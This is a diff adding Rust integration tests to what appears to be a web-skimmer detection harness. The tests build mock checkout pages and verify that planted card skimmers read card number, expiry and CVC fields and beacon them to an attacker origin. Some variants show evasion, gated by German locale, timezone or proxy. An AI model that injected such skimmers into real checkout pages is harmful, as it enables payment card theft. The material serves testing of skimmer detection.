@@ -490,3 +490,460 @@ async fn platform_checkouts_are_identical_on_every_load() {
         assert!(!a.contains(&shop.base(Origin::Shop)), "the clean page names no port");
     }
 }
+
+// -- journeys ------------------------------------------------------------------------------
+
+/// Like [`send`], with extra request headers (cookies, credentials, languages). A form body
+/// goes as `application/x-www-form-urlencoded`, as a browser posts it.
+async fn send_with(method: &str, base: &str, path: &str, headers: &[(&str, &str)], body: &str) -> Reply {
+    let host = base.trim_start_matches("http://");
+    let mut head = format!("{method} {path} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n");
+    for (name, value) in headers {
+        head.push_str(&format!("{name}: {value}\r\n"));
+    }
+    if !body.is_empty() {
+        head.push_str("Content-Type: application/x-www-form-urlencoded\r\n");
+    }
+    head.push_str(&format!("Content-Length: {}\r\n\r\n{body}", body.len()));
+    let mut stream = tokio::net::TcpStream::connect(host).await.unwrap();
+    stream.write_all(head.as_bytes()).await.unwrap();
+    let mut raw = Vec::new();
+    stream.read_to_end(&mut raw).await.unwrap();
+    parse(&raw)
+}
+
+impl Reply {
+    /// Every `Set-Cookie` value of the response.
+    fn set_cookies(&self) -> Vec<&str> {
+        self.headers.iter().filter(|(n, _)| n == "set-cookie").map(|(_, v)| v.as_str()).collect()
+    }
+}
+
+/// The path of a URL on the shop origin.
+fn shop_path(shop: &Shop, url: &str) -> String {
+    url.strip_prefix(&shop.base(Origin::Shop)).expect("a shop URL").to_string()
+}
+
+#[tokio::test]
+async fn m2_add_to_cart_checks_the_form_key_and_sets_the_cart_cookie() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    let product_url = shop.serve_m2_shop();
+    assert_eq!(product_url, shop.url(Origin::Shop, "/m2/blue-mug.html"));
+
+    let product = get(&base, "/m2/blue-mug.html").await;
+    assert_eq!(product.status, 200);
+    let form_cookie = product.header("set-cookie").expect("the product page sets the form key");
+    assert!(form_cookie.contains("Path=/"), "{form_cookie}");
+    let key = form_cookie.split(';').next().unwrap().strip_prefix("form_key=").unwrap().to_string();
+    for needle in [
+        r#"id="product_addtocart_form""#.to_string(),
+        format!(r#"<input name="form_key" type="hidden" value="{key}">"#),
+        r#"id="product-addtocart-button""#.to_string(),
+        r#"<span class="counter-number"></span>"#.to_string(),
+        "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Catalog/js/catalog-add-to-cart.js".to_string(),
+    ] {
+        assert!(product.body.contains(&needle), "product page lacks {needle}");
+    }
+    let script =
+        get(&base, "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Catalog/js/catalog-add-to-cart.js")
+            .await;
+    assert_eq!(script.status, 200);
+    assert!(script.body.contains("fetch('/m2/checkout/cart/add/'") && script.body.contains(".counter-number"));
+
+    // No key, a wrong key, a key without its cookie: refused, no cart.
+    let form = format!("product=42&selected_configurable_option=&related_product=&form_key={key}&qty=1");
+    let cookie = format!("form_key={key}");
+    for (headers, body) in [
+        (vec![("Cookie", cookie.as_str())], "product=42&qty=1".to_string()),
+        (vec![("Cookie", cookie.as_str())], "product=42&form_key=AAAAAAAAAAAAAAAA&qty=1".to_string()),
+        (vec![], form.clone()),
+    ] {
+        let refused = send_with("POST", &base, "/m2/checkout/cart/add/", &headers, &body).await;
+        assert_eq!(refused.status, 400, "{body}");
+        assert!(refused.set_cookies().is_empty());
+        assert!(refused.body.contains("Invalid Form Key"));
+    }
+    assert_eq!(send_with("GET", &base, "/m2/checkout/cart/add/", &[("Cookie", &cookie)], "").await.status, 400);
+
+    let added = send_with("POST", &base, "/m2/checkout/cart/add/", &[("Cookie", &cookie)], &form).await;
+    assert_eq!((added.status, added.header("content-type")), (200, Some("application/json")));
+    assert!(added.body.contains(r#""summary_count":1"#), "{}", added.body);
+    let cart = added.header("set-cookie").unwrap();
+    assert!(cart.starts_with("m2_cart=") && cart.ends_with("; Path=/"), "{cart}");
+    assert!(cart.len() > "m2_cart=; Path=/".len());
+}
+
+#[tokio::test]
+async fn m2_checkout_needs_the_cart_and_holds_no_payment_step_until_shipping_is_saved() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    shop.serve_m2_shop();
+    let checkout_path = shop_path(&shop, &shop.m2_checkout_url());
+    assert_eq!(checkout_path, "/m2/checkout/");
+
+    let away = get(&base, &checkout_path).await;
+    assert_eq!(away.status, 302);
+    assert_eq!(away.header("location"), Some(shop.url(Origin::Shop, "/m2/checkout/cart/").as_str()));
+    let wrong = send_with("GET", &base, &checkout_path, &[("Cookie", "m2_cart=guessed")], "").await;
+    assert_eq!(wrong.status, 302);
+    let empty = get(&base, "/m2/checkout/cart/").await;
+    assert_eq!(empty.status, 200);
+    assert!(empty.body.contains("You have no items in your shopping cart."));
+    assert!(!empty.body.contains("<input") && !empty.body.contains("<iframe") && !empty.body.contains("cc-"));
+
+    // The cart cookie as the add-to-cart answer sets it.
+    let key = "hQ7xV2mK9pL4sT1w";
+    let added = send_with(
+        "POST",
+        &base,
+        "/m2/checkout/cart/add/",
+        &[("Cookie", &format!("form_key={key}"))],
+        &format!("form_key={key}"),
+    )
+    .await;
+    let cart = added.header("set-cookie").unwrap().split(';').next().unwrap().to_string();
+    let cart_id = cart.strip_prefix("m2_cart=").unwrap().to_string();
+    let full = send_with("GET", &base, "/m2/checkout/cart/", &[("Cookie", &cart)], "").await;
+    assert!(full.body.contains("Proceed to Checkout") && !full.body.contains("no items"));
+
+    let page = send_with("GET", &base, &checkout_path, &[("Cookie", &format!("form_key={key}; {cart}"))], "").await;
+    assert_eq!((page.status, page.header("content-type")), (200, Some("text/html; charset=utf-8")));
+    for needle in [
+        r#"<li id="shipping""#,
+        r#"type="email" name="username" id="customer-email""#,
+        r#"name="firstname""#,
+        r#"name="lastname""#,
+        r#"name="street[0]""#,
+        r#"name="city""#,
+        r#"name="postcode""#,
+        r#"name="telephone""#,
+        r#"<select class="select" name="country_id""#,
+        r#"class="button action continue primary"><span>Next</span>"#,
+        "Magento_Checkout/js/checkout.js",
+    ] {
+        assert!(page.body.contains(needle), "checkout lacks {needle}");
+    }
+    assert!(page.body.contains(&format!(r#""entity_id":"{cart_id}""#)));
+    assert!(page.body.contains(&shop.hosted_fields_url()), "the Braintree config names the hosted fields");
+    assert!(!page.body.contains(r#"id="payment""#) && !page.body.contains("<iframe"), "no payment step yet");
+    assert!(!page.body.contains("cc-number") && !page.body.contains("cc_number"));
+
+    // The script renders the payment step and the named iframe, and places the order by REST.
+    let script =
+        get(&base, "/m2/static/version1718000000/frontend/Harbor/luma/en_US/Magento_Checkout/js/checkout.js").await;
+    for needle in [
+        "'/shipping-information'",
+        "'/payment-information'",
+        "location.hash = '#payment'",
+        "step.id = 'payment'",
+        "id=\"braintree\"",
+        "frame.name = 'braintree-hosted-field-number'",
+        "}, 300);",
+        "class=\"action primary checkout\"",
+    ] {
+        assert!(script.body.contains(needle), "checkout.js lacks {needle}");
+    }
+    let rest = format!("/m2/rest/default/V1/guest-carts/{cart_id}");
+    let saved = send("POST", &base, &format!("{rest}/shipping-information"), r#"{"addressInformation":{}}"#).await;
+    assert!(saved.body.contains(r#""code":"braintree""#), "{}", saved.body);
+    assert!(shop.m2_order_requests().is_empty(), "saving shipping places no order");
+    let placed = send("POST", &base, &format!("{rest}/payment-information"), r#"{"cartId":"x"}"#).await;
+    assert_eq!(placed.status, 200);
+    assert_eq!(shop.m2_order_requests().len(), 1);
+    assert_eq!(get(&base, "/m2/checkout/onepage/success/").await.status, 200);
+}
+
+#[tokio::test]
+async fn m2_skimmer_is_planted_into_the_checkout_only() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    shop.serve_m2_shop();
+    let cookie = "m2_cart=Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2";
+    let clean = send_with("GET", &base, "/m2/checkout/", &[("Cookie", cookie)], "").await.body;
+    assert_eq!(inline_scripts(&clean).len(), 1, "checkoutConfig only");
+    shop.plant_m2_skimmer();
+    shop.plant_m2_skimmer();
+    let infected = send_with("GET", &base, "/m2/checkout/", &[("Cookie", cookie)], "").await.body;
+    let scripts = inline_scripts(&infected);
+    assert_eq!(scripts.len(), 2, "planting twice leaves one skimmer");
+    let code = shop.m2_skimmer_code();
+    assert_eq!(scripts[1].trim(), code);
+    let exfil = shop.url(Origin::Attacker, M2_SKIMMER_EXFIL_PATH);
+    for needle in [exfil.as_str(), "autocomplete=\"cc-number\"", "payment[cc_number]", "cc-exp", "cc-csc", "luhn"] {
+        assert!(code.contains(needle), "skimmer lacks {needle}");
+    }
+    assert_eq!(get(&base, "/m2/checkout/").await.status, 302, "still gated");
+    let pixel = get(&shop.base(Origin::Attacker), "/m2c?d=NDExMQ%3D%3D").await;
+    assert_eq!((pixel.status, pixel.header("access-control-allow-origin")), (200, Some("*")));
+}
+
+#[tokio::test]
+async fn login_gated_checkout_needs_the_right_password_and_the_session() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    let login_url = shop.serve_login_gated("buyer@harbor-trade.example", "Tide&Pine 42");
+    assert_eq!(login_url, shop.url(Origin::Shop, "/b2b/login"));
+    assert_eq!(shop.b2b_checkout_url(), shop.url(Origin::Shop, "/b2b/checkout"));
+
+    let away = get(&base, "/b2b/checkout").await;
+    assert_eq!((away.status, away.header("location")), (302, Some(login_url.as_str())));
+    let login = get(&base, "/b2b/login").await;
+    assert_eq!(login.status, 200);
+    for needle in [
+        r#"action="/b2b/login" method="post" id="login-form""#,
+        r#"name="login[username]" value="" autocomplete="username" id="email" type="email""#,
+        r#"name="login[password]" type="password""#,
+        r#"id="pass""#,
+        r#"id="send2""#,
+    ] {
+        assert!(login.body.contains(needle), "login page lacks {needle}");
+    }
+    assert!(!login.body.contains("Invalid login"));
+
+    let user = "login%5Busername%5D=buyer%40harbor-trade.example";
+    for body in [format!("{user}&login%5Bpassword%5D=Tide%26Pine+43"), user.to_string(), String::new()] {
+        let refused = send_with("POST", &base, "/b2b/login", &[], &body).await;
+        assert_eq!(refused.status, 200, "{body}");
+        assert!(refused.body.contains("Invalid login or password."));
+        assert!(refused.set_cookies().is_empty());
+    }
+    let body = format!("{user}&login%5Bpassword%5D=Tide%26Pine+42&send=");
+    let signed_in = send_with("POST", &base, "/b2b/login", &[], &body).await;
+    assert_eq!((signed_in.status, signed_in.header("location")), (302, Some(shop.b2b_checkout_url().as_str())));
+    let session = signed_in.header("set-cookie").unwrap();
+    assert!(session.starts_with("b2b_session=") && session.ends_with("; Path=/; HttpOnly"), "{session}");
+    let session = session.split(';').next().unwrap();
+
+    let page = send_with("GET", &base, "/b2b/checkout", &[("Cookie", session)], "").await;
+    assert_eq!(page.status, 200);
+    for needle in [
+        r#"id="cc-name" name="cc_name" type="text" autocomplete="cc-name""#,
+        r#"id="cc-number" name="cc_number" type="text" inputmode="numeric" autocomplete="cc-number""#,
+        r#"id="cc-exp" name="cc_exp""#,
+        r#"autocomplete="cc-exp""#,
+        r#"id="cc-csc" name="cc_csc""#,
+        r#"autocomplete="cc-csc""#,
+        r#"action="/b2b/order" method="post""#,
+        r#"id="place-order""#,
+        r#"<script src="/b2b/static/js/checkout.js"></script>"#,
+    ] {
+        assert!(page.body.contains(needle), "trade checkout lacks {needle}");
+    }
+    let wrong = send_with("GET", &base, "/b2b/checkout", &[("Cookie", "b2b_session=0000")], "").await;
+    assert_eq!(wrong.status, 302);
+
+    let script = get(&base, "/b2b/static/js/checkout.js").await.body;
+    shop.plant_b2b_skimmer();
+    shop.plant_b2b_skimmer();
+    let infected = get(&base, "/b2b/static/js/checkout.js").await.body;
+    let exfil = shop.url(Origin::Attacker, B2B_SKIMMER_EXFIL_PATH);
+    assert!(infected.starts_with(&script) && infected.contains(&exfil));
+    assert_eq!(infected.matches(&exfil).count(), 1, "planting twice leaves one skimmer");
+    assert_parses("planted trade checkout script", &infected);
+    let pixel = get(&shop.base(Origin::Attacker), "/b2bc?d=x").await;
+    assert_eq!((pixel.status, pixel.header("access-control-allow-origin")), (200, Some("*")));
+}
+
+#[tokio::test]
+async fn basic_auth_checkout_answers_401_without_the_credentials() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    let url = shop.serve_basic_auth("wholesale", "s3cret:pass");
+    assert_eq!(url, shop.url(Origin::Shop, "/basic/checkout"));
+    let encode = |pair: &str| format!("Basic {}", base64::engine::general_purpose::STANDARD.encode(pair));
+    let right = encode("wholesale:s3cret:pass");
+
+    for auth in [None, Some(encode("wholesale:wrong")), Some("Bearer abc".to_string())] {
+        let headers: Vec<(&str, &str)> = auth.iter().map(|a| ("Authorization", a.as_str())).collect();
+        for path in ["/basic/checkout", "/basic/static/js/checkout.js", "/basic/order"] {
+            let refused = send_with("GET", &base, path, &headers, "").await;
+            assert_eq!(refused.status, 401, "{path} {auth:?}");
+            assert_eq!(refused.header("www-authenticate"), Some(r#"Basic realm="wholesale""#));
+            assert!(!refused.body.contains("cc-number"));
+        }
+    }
+    let page = send_with("GET", &base, "/basic/checkout", &[("Authorization", &right)], "").await;
+    assert_eq!(page.status, 200);
+    assert!(page.body.contains(r#"autocomplete="cc-number""#) && page.body.contains(r#"id="cc-csc""#));
+    assert!(inline_scripts(&page.body).is_empty(), "clean until planted");
+    let script = send_with("GET", &base, "/basic/static/js/checkout.js", &[("authorization", &right)], "").await;
+    assert_eq!(script.status, 200);
+
+    shop.plant_basic_skimmer();
+    shop.plant_basic_skimmer();
+    assert_eq!(get(&base, "/basic/checkout").await.status, 401, "still gated");
+    let page = send_with("GET", &base, "/basic/checkout", &[("Authorization", &right)], "").await;
+    let scripts = inline_scripts(&page.body);
+    assert_eq!(scripts.len(), 1);
+    assert!(scripts[0].contains(&shop.url(Origin::Attacker, BASIC_SKIMMER_EXFIL_PATH)));
+    assert_eq!(get(&shop.base(Origin::Attacker), "/basicc?d=x").await.header("access-control-allow-origin"), Some("*"));
+}
+
+#[tokio::test]
+async fn region_gated_skimmer_is_served_to_german_visitors_only() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    let url = shop.serve_region_gated();
+    assert_eq!(url, shop.url(Origin::Shop, "/de/checkout"));
+    let code = shop.region_skimmer_code();
+    assert!(code.contains("timeZone !== 'Europe/Berlin'"));
+    assert!(code.contains(&shop.url(Origin::Attacker, REGION_SKIMMER_EXFIL_PATH)));
+
+    for language in [None, Some("en-US,en;q=0.9"), Some("fr-FR,de;q=0.8"), Some("en-DE")] {
+        let headers: Vec<(&str, &str)> = language.iter().map(|l| ("Accept-Language", *l)).collect();
+        let page = send_with("GET", &base, "/de/checkout", &headers, "").await;
+        assert_eq!(page.status, 200);
+        assert!(page.body.contains(r#"autocomplete="cc-number""#));
+        assert!(inline_scripts(&page.body).is_empty(), "{language:?} got a skimmer");
+        assert!(!page.body.contains(&shop.base(Origin::Attacker)));
+    }
+    for language in ["de-DE,de;q=0.9", "de", "DE-at"] {
+        let page = send_with("GET", &base, "/de/checkout", &[("Accept-Language", language)], "").await;
+        assert_eq!(page.status, 200);
+        assert!(page.body.contains(r#"<html lang="de">"#) && page.body.contains(r#"id="cc-number""#));
+        assert_eq!(inline_scripts(&page.body), vec![format!("\n{code}\n")], "{language}");
+    }
+    assert_eq!(get(&shop.base(Origin::Attacker), "/dec?d=x").await.header("access-control-allow-origin"), Some("*"));
+}
+
+/// Reads one response from a keep-alive connection (its body by `Content-Length`).
+async fn read_one(stream: &mut tokio::net::TcpStream) -> Reply {
+    let mut raw = Vec::new();
+    let mut byte = [0u8; 1];
+    while !raw.ends_with(b"\r\n\r\n") {
+        assert_eq!(stream.read(&mut byte).await.unwrap(), 1, "connection closed mid-head");
+        raw.push(byte[0]);
+    }
+    let head = parse(&raw);
+    let length: usize = head.header("content-length").map(|l| l.parse().unwrap()).unwrap_or(0);
+    let mut body = vec![0; length];
+    stream.read_exact(&mut body).await.unwrap();
+    raw.extend_from_slice(&body);
+    parse(&raw)
+}
+
+#[tokio::test]
+async fn proxy_forwards_keep_alive_requests_and_only_proxied_visitors_get_the_skimmer() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    let host = shop.host(Origin::Shop);
+    let url = shop.serve_proxy_gated();
+    assert_eq!(url, shop.url(Origin::Shop, "/proxied/checkout"));
+    shop.serve_m2_shop();
+    let proxy = Proxy::start_in_background().unwrap();
+    assert!(proxy.url().starts_with("http://127.0.0.1:"));
+
+    let direct = get(&base, "/proxied/checkout").await;
+    assert_eq!(direct.status, 200);
+    assert!(inline_scripts(&direct.body).is_empty(), "a direct visitor gets the clean page");
+
+    // Three requests on one connection, as Chromium sends them: absolute-form, keep-alive.
+    let mut stream = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
+    let page_request = format!(
+        "GET {url} HTTP/1.1\r\nHost: {host}\r\nProxy-Connection: keep-alive\r\nUser-Agent: Test\r\nAccept-Language: en\r\n\r\n"
+    );
+    stream.write_all(page_request.as_bytes()).await.unwrap();
+    let page = read_one(&mut stream).await;
+    assert_eq!(page.status, 200);
+    assert_eq!(page.header("via"), Some("1.1 skimwatch-test-proxy"));
+    assert_eq!(page.header("connection"), Some("keep-alive"));
+    assert_eq!(page.header("cache-control"), Some("no-store"));
+    assert_eq!(inline_scripts(&page.body), vec![format!("\n{}\n", shop.proxy_skimmer_code())]);
+    assert!(page.body.contains(&shop.url(Origin::Attacker, PROXY_SKIMMER_EXFIL_PATH)));
+
+    let form = "form_key=hQ7xV2mK9pL4sT1w&qty=1";
+    let add = format!(
+        "POST {base}/m2/checkout/cart/add/ HTTP/1.1\r\nHost: {host}\r\nProxy-Connection: keep-alive\r\nCookie: form_key=hQ7xV2mK9pL4sT1w\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{form}",
+        form.len()
+    );
+    stream.write_all(add.as_bytes()).await.unwrap();
+    let added = read_one(&mut stream).await;
+    assert_eq!(added.status, 200, "{}", added.body);
+    assert!(added.header("set-cookie").unwrap().starts_with("m2_cart="));
+
+    let missing = format!("GET {base}/m2/checkout/ HTTP/1.1\r\nHost: {host}\r\nProxy-Connection: close\r\n\r\n");
+    stream.write_all(missing.as_bytes()).await.unwrap();
+    let redirected = read_one(&mut stream).await;
+    assert_eq!((redirected.status, redirected.header("connection")), (302, Some("close")));
+    let mut rest = Vec::new();
+    stream.read_to_end(&mut rest).await.unwrap();
+    assert!(rest.is_empty(), "the proxy closes after Connection: close");
+
+    assert_eq!(
+        proxy.requests(),
+        vec![format!("GET {url}"), format!("POST {base}/m2/checkout/cart/add/"), format!("GET {base}/m2/checkout/"),]
+    );
+    let arrived: Vec<_> = shop.requests_to(Origin::Shop).into_iter().filter(|r| r.header("via").is_some()).collect();
+    assert_eq!(arrived.len(), 3);
+    assert_eq!(
+        (arrived[0].path.as_str(), arrived[0].header("via")),
+        ("/proxied/checkout", Some("1.1 skimwatch-test-proxy"))
+    );
+    assert_eq!((arrived[0].header("user-agent"), arrived[0].header("host")), (Some("Test"), Some(host.as_str())));
+    assert!(arrived.iter().all(|r| r.header("proxy-connection").is_none()), "hop-by-hop headers stay with the proxy");
+    assert_eq!((arrived[1].method.as_str(), arrived[1].body.as_str()), ("POST", form));
+
+    // CONNECT (https) is refused; an origin that is down is a 502.
+    let mut tunnel = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
+    tunnel.write_all(b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n").await.unwrap();
+    assert_eq!(read_one(&mut tunnel).await.status, 405);
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let mut down = tokio::net::TcpStream::connect(proxy.url().trim_start_matches("http://")).await.unwrap();
+    down.write_all(format!("GET http://{closed}/ HTTP/1.1\r\nHost: {closed}\r\n\r\n").as_bytes()).await.unwrap();
+    assert_eq!(read_one(&mut down).await.status, 502);
+
+    let addr = proxy.url().trim_start_matches("http://").to_string();
+    drop(proxy);
+    assert!(std::net::TcpStream::connect(addr).is_err(), "proxy still accepting after drop");
+    assert_eq!(get(&shop.base(Origin::Attacker), "/pxc?d=x").await.header("access-control-allow-origin"), Some("*"));
+}
+
+#[tokio::test]
+async fn every_journey_page_and_skimmer_parses() {
+    let shop = Shop::start().await.unwrap();
+    let base = shop.base(Origin::Shop);
+    shop.serve_m2_shop();
+    shop.serve_login_gated("u", "p");
+    shop.serve_basic_auth("u", "p");
+    shop.serve_region_gated();
+    shop.serve_proxy_gated();
+    shop.plant_m2_skimmer();
+    shop.plant_b2b_skimmer();
+    shop.plant_basic_skimmer();
+    for code in [shop.m2_skimmer_code(), shop.region_skimmer_code(), shop.proxy_skimmer_code()] {
+        assert_parses("journey skimmer", &code);
+        assert!(!code.contains("{{") && !code.contains("__GUARD__"));
+    }
+    for (origin, path) in shop.paths() {
+        let resource = shop.resource(origin, &path).unwrap();
+        assert!(!resource.body.contains("{{"), "{path} has an unfilled placeholder");
+        if resource.content_type.starts_with("text/javascript") {
+            assert_parses(&format!("{origin} {path}"), &resource.body);
+        }
+        if resource.content_type.starts_with("text/html") {
+            for script in inline_scripts(&resource.body) {
+                assert_parses(&format!("inline script of {path}"), &script);
+            }
+        }
+    }
+    // The pages the server builds per request, with their skimmers in.
+    let basic = format!("Basic {}", base64::engine::general_purpose::STANDARD.encode("u:p"));
+    let pages = [
+        ("/m2/checkout/", ("Cookie", "m2_cart=Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2"), 2),
+        ("/m2/checkout/cart/", ("Cookie", "m2_cart=Xk3j9sQ2Lm8vN4pR7tY1wZ6bC0dF5gH2"), 0),
+        ("/b2b/login", ("Accept", "text/html"), 0),
+        ("/basic/checkout", ("Authorization", basic.as_str()), 1),
+        ("/de/checkout", ("Accept-Language", "de-DE,de;q=0.9"), 1),
+        ("/proxied/checkout", ("Via", "1.1 skimwatch-test-proxy"), 1),
+    ];
+    for (path, header, expected) in pages {
+        let page = send_with("GET", &base, path, &[header], "").await;
+        assert_eq!(page.status, 200, "{path}");
+        let scripts = inline_scripts(&page.body);
+        assert_eq!(scripts.len(), expected, "inline scripts of {path}");
+        for script in scripts {
+            assert_parses(&format!("served inline script of {path}"), &script);
+        }
+    }
+}
